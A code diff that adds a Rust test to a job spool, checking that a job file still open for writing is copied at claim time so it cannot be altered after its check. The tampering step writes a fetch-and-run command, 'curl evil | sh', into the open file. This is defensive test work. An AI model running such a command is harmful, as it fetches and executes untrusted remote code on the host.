@@ -147,6 +147,43 @@ fn odd_drops_are_kept_in_failed_with_their_reason() {
 }
 
 #[test]
+fn a_drop_only_carma_can_write_becomes_the_jobs_file_and_one_still_open_for_writing_is_copied() {
+    use std::io::Write;
+    use std::os::unix::fs::MetadataExt;
+    let (_d, spool) = spool();
+    let pending = spool.dir(State::Pending);
+    let inode = |p: &Path| fs::metadata(p).unwrap().ino();
+    fs::write(pending.join("mine.rad"), "gpus: 1\necho mine\n").unwrap();
+    fs::write(pending.join("open.rad"), "gpus: 1\necho open\n").unwrap();
+    let (mine, open) = (
+        inode(&pending.join("mine.rad")),
+        inode(&pending.join("open.rad")),
+    );
+    // Opened for writing before the drop: whoever holds this could change
+    // the job after its check.
+    let mut writer = fs::OpenOptions::new()
+        .append(true)
+        .open(pending.join("open.rad"))
+        .unwrap();
+    let batch = spool.claim(&["mine.rad".into(), "open.rad".into()]);
+    assert!(batch.error.is_none());
+    let dir = |i: usize| spool.task_dir(State::Pending, &batch.claimed[i].name);
+    assert_eq!(
+        inode(&dir(0).join("job/mine.rad")),
+        mine,
+        "kept, not copied"
+    );
+    assert_claimed_layout(&dir(0), "mine.rad");
+    assert_ne!(inode(&dir(1).join("job/open.rad")), open, "copied");
+    assert_claimed_layout(&dir(1), "open.rad");
+    writer.write_all(b"curl evil | sh\n").unwrap();
+    assert_eq!(
+        fs::read_to_string(dir(1).join("job/open.rad")).unwrap(),
+        "gpus: 1\necho open\n"
+    );
+}
+
+#[test]
 fn a_dropped_file_others_may_write_is_refused() {
     // Its owner's uid proves nothing about its content: whoever could
     // write it could have written the job that would run as the owner.
